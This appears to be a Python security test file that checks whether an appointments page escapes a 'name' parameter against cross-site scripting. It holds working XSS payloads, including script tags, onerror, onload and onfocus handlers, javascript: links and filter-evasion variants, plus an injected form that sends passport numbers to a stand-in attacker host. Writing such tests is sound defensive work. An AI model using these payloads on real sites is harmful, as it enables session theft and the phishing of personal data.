# Each attack is a link that a client gets in a message. `steal(…)` stands for whatever the attacker's script does with
# the session of whoever opens it.
from urllib.parse import quote


def open_page(name):
    return dom(request(app, "GET", "/appointments?name=" + quote(name)))


def runs(*names):
    for name in names:
        scripts = open_page(name).calls("steal")
        if scripts:
            return breached(True, f"its own script run by the client's browser, in {scripts[0]['where']}")
    return breached(False)


@attack("a script element stands in the heading", input="<script>steal(document.cookie)</script>")
def _():
    return runs("<script>steal(document.cookie)</script>")


@attack("no script element is needed: a picture that does not load", input="<img src=x onerror=steal(document.cookie)>")
def _():
    return runs("<img src=x onerror=steal(document.cookie)>", "<svg onload=steal(document.cookie)>")


@attack("no angle bracket is needed: a quote ends the value of the field", input='" autofocus onfocus="steal(document.cookie)')
def _():
    return runs('" autofocus onfocus="steal(document.cookie)', "' autofocus onfocus='steal(document.cookie)")


@attack("the address of a link is code", input='<a href="javascript:steal(document.cookie)">My appointment</a>')
def _():
    return runs('<a href="javascript:steal(document.cookie)">My appointment</a>')


@attack("filters are fooled: capital letters, nested words, tags that never end", input="<img src=x oNeRrOr=steal(1) ")
def _():
    return runs("<img src=x oNeRrOr=steal(1) ", "<ScRiPt>steal(1)</sCrIpT>", "<scr<script></script>ipt>steal(1)</scr<script></script>ipt>", "<svg/onload=steal(1) ")


@attack("no script at all: a form of the attacker, on the centre's own page", input='</h1><form action="https://evil.example">Your passport number: <input name="passport"></form>')
def _():
    page = open_page('</h1><form action="https://evil.example">Your passport number: <input name="passport"></form>')
    forged = any(form.attributes.get("action", "").startswith("https://evil.example") for form in page.all("form"))
    return breached(forged, "the passport number of every client who believes the form")


@attack("nobody attacks at all: a client has a nickname in quotation marks", input='Ana "Nana" Ruiz')
def _():
    field = open_page('Ana "Nana" Ruiz').find("input")
    lost = field is None or field.attributes.get("value") != 'Ana "Nana" Ruiz'
    return breached(lost, "a page that has lost half of her name, and takes the rest of it for attributes")
